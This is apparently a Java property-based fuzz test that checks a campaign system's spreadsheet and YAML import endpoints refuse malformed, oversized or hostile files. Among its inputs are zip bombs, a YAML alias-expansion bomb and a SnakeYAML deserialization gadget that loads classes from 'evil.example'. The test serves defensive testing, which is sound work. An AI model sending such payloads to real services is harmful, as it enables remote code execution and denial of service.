package cn.chuangwei.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import cn.chuangwei.fuzz.Files.Upload;
import cn.chuangwei.support.Api;
import cn.chuangwei.support.Api.Reply;
import cn.chuangwei.support.Fixture;
import cn.chuangwei.support.H2Test;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterProperty;

/**
 * The importers under attack: the task decomposition table ({@code .xlsx} or {@code .csv}) and the standard files
 * (YAML). Random bytes, spreadsheets cut short or with bytes changed, valid spreadsheets with hostile cells, csv in odd
 * encodings, tables over the row and byte limits, a zip bomb: each is imported whole or refused with a bilingual 4xx,
 * and a refused file writes no row.
 */
@H2Test
class ImportFuzzTest extends FuzzWorldProperties {

    static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());

    String importPath() {
        return "/api/campaigns/" + w.draft + "/tasks/import";
    }

    /** Uploads a file as the office; returns whether it was refused (after checking the answer and the database). */
    boolean upload(String path, Upload file) {
        Map<String, Object> before = refusals.snapshot();
        Reply r = new Api(port, w.draftTown.office, Fixture.PASSWORD).upload(path, file.name(), "application/octet-stream",
                file.content());
        return refusals.check("POST", path + " " + file, r, before);
    }

    // --- the task decomposition table

    @Provide
    Arbitrary<Upload> decompositionFiles() {
        String unit = w.draftTown.unit("c1");
        return Arbitraries.frequencyOf(Tuple.of(3, Files.csv(unit)), Tuple.of(2, Files.randomBytes()),
                Tuple.of(3, Files.xlsxWithRandomCells(unit)), Tuple.of(2, Files.brokenXlsx(unit)));
    }

    @Property(tries = 80)
    void decompositionTables(@ForAll("decompositionFiles") Upload file) {
        upload(importPath(), file);
    }

    @Example
    void zipBombIsRefusedBeforeItInflates() {
        byte[] bomb = Files.xlsxBomb(500L * 1024 * 1024);
        assertThat(bomb.length).as("a small file").isLessThan(2 * 1024 * 1024);
        assertThat(upload(importPath(), new Upload("炸弹.xlsx", bomb))).isTrue();
    }

    @Example
    void aBombUnderTheRatioCheckStopsAtTheInflatedSizeCap() {
        byte[] bomb = Files.xlsxModerateBomb();
        assertThat(bomb.length).as("within the upload limit").isLessThan(5 * 1024 * 1024);
        Map<String, Object> before = refusals.snapshot();
        Reply r = new Api(port, w.draftTown.office, Fixture.PASSWORD).upload(importPath(), "慢炸弹.xlsx",
                "application/octet-stream", bomb);
        assertThat(refusals.check("POST", importPath() + " moderate bomb", r, before)).isTrue();
        // refused on opening (no part inflates beyond 64 MB), not after loading a million rows
        assertThat(r.json().get("code").asText()).isEqualTo("unreadable-file");
    }

    @Example
    void tablesOverTheLimitsAreRefusedWhole() {
        String row = "宣传发动,张贴倡议书,每户一份," + w.draftTown.unit("c1") + ",,2027-10-05,否,\n";
        String header = String.join(",", Files.HEADER) + "\n";
        assertThat(upload(importPath(), new Upload("多.csv", (header + row.repeat(5001)).getBytes(StandardCharsets.UTF_8))))
                .isTrue();
        List<List<Object>> rows = new ArrayList<>();
        rows.add(List.of((Object[]) Files.HEADER));
        for (int i = 0; i < 5001; i++) {
            rows.add(List.of("宣传发动", "任务" + i, "", w.draftTown.unit("c1"), "", "2027-10-05", "否", ""));
        }
        assertThat(upload(importPath(), new Upload("多.xlsx", Files.xlsx(rows)))).isTrue();
        // one row far down the sheet: a million rows to the reader
        byte[] sparse = Files.zip("xl/worksheets/sheet1.xml", 100L, " ");
        assertThat(upload(importPath(), new Upload("稀.xlsx", sparse))).isTrue();
        byte[] blanks = "\n".repeat(6 * 1024 * 1024).getBytes(StandardCharsets.UTF_8);
        assertThat(upload(importPath(), new Upload("大.csv", blanks))).isTrue();
        // over the server's request limit (25 MB): refused while the upload is read, before any controller is chosen,
        // with a bare 413 (answering earlier would cut the client off mid-upload)
        Map<String, Object> before = refusals.snapshot();
        Reply huge = new Api(port, w.draftTown.office, Fixture.PASSWORD).upload(importPath(), "巨大.csv",
                "text/csv", new byte[26 * 1024 * 1024]);
        assertThat(huge.status()).isEqualTo(413);
        assertThat(refusals.snapshot()).isEqualTo(before);
    }

    // --- standard files (YAML): a small valid standard of its own code, then mutated

    static Map<String, Object> standard() {
        // every entry carries its source (required since the shipped files carry theirs)
        Map<String, Object> src = Map.of("document", "全爱卫发〔2021〕6号", "status", "PUBLISHED");
        return Map.of("code", "fuzz-standard", "name", "模糊测试标准", "nameEn", "Fuzz standard", "passScore", 5,
                "minAreaShare", 0.6, "source", src, "areas", List.of(Map.of("code", "ORG_MANAGEMENT", "name", "组织管理",
                        "nameEn", "Organisation", "source", src, "items", List.of(
                                Map.of("code", "ORG-01", "name", "机构健全", "requirement", "成立爱卫会", "points", 3, "veto", false,
                                        "source", src),
                                Map.of("code", "ORG-02", "name", "经费保障", "requirement", "经费到位", "points", 3, "veto", true,
                                        "source", src)),
                        "indicators", List.of(
                                Map.of("code", "COVERAGE", "name", "覆盖率", "nameEn", "Coverage", "type", "PERCENT", "unit",
                                        "%", "comparison", "GE", "threshold", 95, "veto", false, "item", "ORG-01", "source", src),
                                Map.of("code", "COUNT", "name", "数量", "nameEn", "Count", "type", "NUMBER", "unit", "个",
                                        "comparison", "LE", "threshold", 3, "veto", false, "source", src),
                                Map.of("code", "GRADE_X", "name", "等级", "nameEn", "Grade", "type", "GRADE", "unit", "级",
                                        "comparison", "GRADE_AT_LEAST", "threshold", "B", "veto", true, "source", src)))));
    }

    @Provide
    Arbitrary<Upload> standardFiles() {
        JsonNode valid = Hostile.tree(standard());
        Arbitrary<Upload> mutated = Hostile.bodyFrom(valid).map(json -> new Upload("standard.yaml",
                json.getBytes(StandardCharsets.UTF_8)));
        Arbitrary<Upload> yaml = Arbitraries.of(
                "code: fuzz-standard\npassScore: .inf\n", "a: &a [x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                        + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                        + "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "code: fuzz-standard\n\tname: tab\n", "- - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - -"
                        + " - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - - x",
                "code: [", "---\n...\n---\n", "\uFEFFcode: fuzz-standard", "code: fuzz-standard\ncode: other\n")
                .map(s -> new Upload("standard.yaml", s.getBytes(StandardCharsets.UTF_8)));
        Arbitrary<Upload> thresholds = Arbitraries.of("1e400", "-1e400", ".inf", "-.inf", ".nan", "1e13", "123456789012.3456",
                "0.0001", "-5", "9999999999999999999999", "0x10", "1_000").map(v -> {
                    String y = yaml(standard()).replace("threshold: 3", "threshold: " + v);
                    return new Upload("standard.yaml", y.getBytes(StandardCharsets.UTF_8));
                });
        return Arbitraries.frequencyOf(Tuple.of(6, mutated), Tuple.of(1, yaml), Tuple.of(2, thresholds),
                Tuple.of(1, Files.randomBytes()));
    }

    static String yaml(Object o) {
        try {
            return YAML.writeValueAsString(o);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @Property(tries = 80)
    void standardFiles(@ForAll("standardFiles") Upload file) {
        upload("/api/standards", file);
    }

    @Example
    void aValidStandardStillLoads() {
        assertThat(upload("/api/standards", new Upload("standard.yaml", yaml(standard()).getBytes(StandardCharsets.UTF_8))))
                .as("the fuzzed standard's base is valid, so its mutations test the rules").isFalse();
    }

    @AfterProperty
    void dropFuzzStandards() {
        List<String> mine = jdbc.sql("select code from standard s where not exists"
                + " (select 1 from campaign c where c.standard_code = s.code) and code not in ('national-2021', 'provincial-jiangsu')")
                .query(String.class).list();
        for (String code : mine) {
            for (String t : List.of("standard_indicator", "standard_item", "standard_area", "standard")) {
                jdbc.sql("delete from " + t + " where " + ("standard".equals(t) ? "code" : "standard_code") + " = :c")
                        .param("c", code).update();
            }
        }
    }
}
